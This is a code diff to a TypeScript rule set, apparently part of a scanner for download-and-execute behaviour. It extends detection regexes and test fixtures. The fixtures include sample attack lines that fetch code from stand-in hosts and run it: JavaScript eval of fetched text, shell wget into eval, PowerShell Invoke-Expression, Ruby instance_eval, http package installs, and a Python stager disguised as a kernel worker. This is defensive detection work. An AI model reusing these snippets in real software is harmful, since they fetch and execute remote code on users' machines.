@@ -164,12 +164,13 @@ export const downloadRun: RuleSet = {
           ),
           is(
             ['eval(', 'function(', 'runinthiscontext(', '_compile('],
-            /(?:(?<![\w$.])eval|(?<=new\s)(?:Function|\w{1,8}\.constructor)|runInThisContext|_compile)\(\s*(?:["']require["']\s*,\s*)?(?:await\s+)?(?:res(?:ponse|ult)?|data|body|r|d|code|payload|script|text|js|src|chunks?|s|err|xhr|\w{1,12})(?:\.(?:data|body|text|text\(\)|toString\(\)|responseText|content|cookie|model|credits|Credits|message|join\(["']{2}\)))*\s*\)/,
+            /(?:(?<![\w$.])eval|(?<=(?:globalThis|window|self|global)\.)eval|(?<=new\s)(?:Function|\w{1,8}\.constructor)|runInThisContext|_compile)\(\s*(?:["']require["']\s*,\s*)?(?:await\s+)?(?:res(?:ponse|ult)?|data|body|r|d|code|payload|script|text|js|src|chunks?|s|err|xhr|\w{1,12})(?:\.(?:data|body|text|text\(\)|toString\(\)|responseText|content|cookie|model|credits|Credits|message|join\(["']{2}\)))*\s*\)/,
             { families: ['js', 'html'] },
           ),
         ),
       ),
       matches: [
+        js('const a = await fetch(u)\nconst text = await a.text()\nglobalThis.eval(text)'),
         js("fetch('https://dl.example.invalid/p').then(r => r.text()).then(eval)"),
         js('axios.get(url).then((res) => {\n  eval(res.data.cookie)\n})'),
         js("const r = await fetch(u)\nconst s = await r.text()\nnew Function('require', s)(require)"),
@@ -181,37 +182,52 @@ export const downloadRun: RuleSet = {
       severity: 'high',
       why: 'Fetches text into a name and evaluates or runs that name.',
       when: any(
-        flows(
-          is(['downloadstring(', 'invoke-webrequest', 'invoke-restmethod', 'iwr ', 'irm '], null, { families: ['ps'] }),
-          String.raw`(?:iex|invoke-expression)[\s(]|scriptblock\]::create\(`,
-        ),
-        flows(
-          is(['requests.get', 'urlopen(', 'httpx.get'], null, { families: ['py'] }),
-          String.raw`(?<![\w.])(?:exec|eval)\(|os\.system\(|os\.popen\(|(?:Popen|run|call)\(\s*\[\s*(?:sys\.executable|["']python3?["'])\s*,\s*["']-c["']\s*,`,
-        ),
-        flows(
-          is(['http.request(', 'httpget(', 'http.get('], null, { families: ['lua'] }),
-          String.raw`loadstring\(|(?<![\w.:])load\(`,
-        ),
-        near(
-          10,
-          is(
-            ['https.get(', 'http.get(', 'fetch(', 'axios.', 'request('],
-            /(?:https?\.get|(?<![\w.$])fetch|axios\.(?:get|post)|(?<![\w.$])request)\(/,
-            {
-              families: ['js'],
-            },
+        any(
+          flows(
+            is(['downloadstring(', 'invoke-webrequest', 'invoke-restmethod', 'iwr ', 'irm '], null, {
+              families: ['ps'],
+            }),
+            String.raw`(?:iex|invoke-expression)[\s(]|scriptblock\]::create\(`,
           ),
-          is(
-            ['eval(', 'function(', '_compile('],
-            /(?:(?<![\w$.])eval|(?<=new\s)Function|_compile)\(\s*(?:["']require["']\s*,\s*)?(?:JSON\.parse\(|Buffer\.from\(|atob\(|decrypt\w{0,12}\()/,
-            {
-              families: ['js'],
-            },
+          flows(
+            is(['requests.get', 'urlopen(', 'httpx.get'], null, { families: ['py'] }),
+            String.raw`(?<![\w.])(?:exec|eval)\(|os\.system\(|os\.popen\(|(?:Popen|run|call)\(\s*\[\s*(?:sys\.executable|["']python3?["'])\s*,\s*["']-c["']\s*,`,
           ),
+          flows(
+            is(['http.request(', 'httpget(', 'http.get('], null, { families: ['lua'] }),
+            String.raw`loadstring\(|(?<![\w.:])load\(`,
+          ),
+          near(
+            10,
+            is(
+              ['https.get(', 'http.get(', 'fetch(', 'axios.', 'request('],
+              /(?:https?\.get|(?<![\w.$])fetch|axios\.(?:get|post)|(?<![\w.$])request)\(/,
+              {
+                families: ['js'],
+              },
+            ),
+            is(
+              ['eval(', 'function(', '_compile('],
+              /(?:(?<![\w$.])eval|(?<=new\s)Function|_compile)\(\s*(?:["']require["']\s*,\s*)?(?:JSON\.parse\(|Buffer\.from\(|atob\(|decrypt\w{0,12}\()/,
+              {
+                families: ['js'],
+              },
+            ),
+          ),
+        ),
+        flows(
+          is(['net::http.get(', 'uri.open(', 'httparty.get('], null, { families: ['rb'] }),
+          String.raw`(?<![\w.])(?:instance_|class_|module_)?eval[\s(]`,
+        ),
+        is(
+          ['$(curl ', '$(wget ', '`curl ', '`wget '],
+          /(?<=(?:^|[\s;])(\w{1,30})=["']?)(?:\$\(|`)(?:curl|wget)\s[^\n]{0,160}?(?:http:\/\/|\s-\w{0,4}k\s)[^\n]{0,160}\n(?:[^\n]{0,160}\n){0,6}?[^\n]{0,40}?(?:eval|(?:ba)?sh\s+-c|(?:ba)?sh\s*<<<)\s+["']?\$\{?\1\b/,
+          { families: ['sh', 'make', 'docker', 'yaml'], after: 1400 },
         ),
       ),
       matches: [
+        rb("body = Net::HTTP.get(URI('https://x.example.invalid/a.rb'))\ninstance_eval(body)"),
+        sh('stage=$(wget -qO- http://x.example.invalid/b)\neval "$stage"'),
         ps(
           '$code = (New-Object Net.WebClient).DownloadString("https://x.example.invalid/a.ps1")\nInvoke-Expression $code',
         ),
@@ -219,6 +235,8 @@ export const downloadRun: RuleSet = {
         js("https.get('https://x.example.invalid', (r) => {\n  r.on('data', (d) => eval(JSON.parse(d).content))\n})"),
       ],
       misses: [
+        rb("body = Net::HTTP.get(URI('https://api.example.org/v1'))\nputs JSON.parse(body)"),
+        sh('list=$(curl -s http://x.example.org/list)\necho "$list"'),
         ps('$json = Invoke-RestMethod "https://api.example.org/v1"\nWrite-Output $json'),
         py('text = requests.get(url).text\nprint(text)'),
       ],
@@ -493,24 +511,45 @@ export const downloadRun: RuleSet = {
       id: id('package-at-run-time'),
       severity: 'high',
       why: 'A program installs a package from a plain http address while it runs.',
-      when: inside(
-        ['py', 'js', 'rb', 'go'],
-        near(
-          2,
-          is(
-            ['index-url', '--registry', '--source', 'git+http:'],
-            /(?:index-url|--registry|--source)["',=\s]{1,4}http:\/\/(?!localhost|127\.)|git\+http:/,
+      when: any(
+        inside(
+          ['py', 'js', 'rb', 'go'],
+          near(
+            2,
+            is(
+              ['index-url', '--registry', '--source', 'git+http:'],
+              /(?:index-url|--registry|--source)["',=\s]{1,4}http:\/\/(?!localhost|127\.)|git\+http:/,
+            ),
+            'exec',
+            is(['install'], null),
           ),
-          'exec',
-          is(['install'], null),
+        ),
+        inside(
+          ['py', 'js', 'rb', 'go'],
+          near(
+            2,
+            is(
+              ['install'],
+              /install(?:["',\s]{1,6}[\w=@.-]{1,40}){0,6}["',\s]{1,6}http:\/\/(?!localhost|127\.)[^\s"']{3,160}\.(?:tgz|tar\.gz|zip|whl|gem)\b/,
+            ),
+            'exec',
+          ),
         ),
       ),
       matches: [
         py(
+          'subprocess.check_call([sys.executable, "-m", "pip", "install", "--quiet", "http://x.example.invalid/a-1.0.tar.gz"])',
+        ),
+        js("execSync('npm install --no-save http://x.example.invalid/a.tgz', { stdio: 'ignore' })"),
+        py(
           'subprocess.check_call([sys.executable, "-m", "pip", "install", "--index-url", "http://x.example.invalid/simple", "a"])',
         ),
       ],
-      misses: [py('subprocess.check_call([sys.executable, "-m", "pip", "install", "-r", "requirements.txt"])')],
+      misses: [
+        js("execSync('npm install https://example.org/a.tgz')"),
+        js("console.log('npm install http://example.org/a.tgz')"),
+        py('subprocess.check_call([sys.executable, "-m", "pip", "install", "-r", "requirements.txt"])'),
+      ],
     },
     {
       id: id('paste-run'),
@@ -627,25 +666,37 @@ export const downloadRun: RuleSet = {
       id: id('python-stage'),
       severity: 'high',
       why: 'Writes what it fetched into a file, marks it as a program and starts it.',
-      when: near(
-        14,
-        is(
-          ['chmod('],
-          /chmod\([^,)\n]{1,60},\s*(?:0o?7\d\d|stat\.S_IRWXU|(?:os\.stat\([^)]{1,40}\)\.st_mode\s*\|\s*)?stat\.S_IX?EXEC)/,
-          { families: ['py'] },
+      when: any(
+        near(
+          14,
+          is(
+            ['chmod('],
+            /chmod\([^,)\n]{1,60},\s*(?:0o?7\d\d|stat\.S_IRWXU|(?:os\.stat\([^)]{1,40}\)\.st_mode\s*\|\s*)?stat\.S_IX?EXEC)/,
+            { families: ['py'] },
+          ),
+          is(['.write('], /\.write\(\s*(?:urllib\.request\.)?(?:urlopen|requests\.get|get)\(/, {
+            families: ['py'],
+            after: 80,
+          }),
+          'exec',
         ),
-        is(['.write('], /\.write\(\s*(?:urllib\.request\.)?(?:urlopen|requests\.get|get)\(/, {
-          families: ['py'],
-          after: 80,
-        }),
-        'exec',
+        near(
+          2,
+          is(['.write('], /\.write\(\s*(?:urllib\.request\.)?(?:urlopen|requests\.get|get)\(/, {
+            families: ['py'],
+            after: 80,
+          }),
+          is(['os.startfile('], null, { families: ['py'] }),
+        ),
       ),
       matches: [
+        py('open(path, "wb").write(urlopen(address).read())\nos.startfile(path)'),
         py(
           'with open(path, "wb") as handle:\n    handle.write(urlopen("https://x.example/assets/" + m).read())\nos.chmod(path, stat.S_IRWXU)\nos.spawnl(os.P_NOWAIT, path, "[kworker/u8:2]")',
         ),
       ],
       misses: [
+        py('open(path, "wb").write(urlopen(address).read())\nprint(path)'),
         py('handle.write(urlopen(url).read())\nos.chmod(path, 0o644)'),
         py('handle.write(requests.get(url).content)\nos.chmod(path, 0o755)\nprint("installed", path)'),
       ],
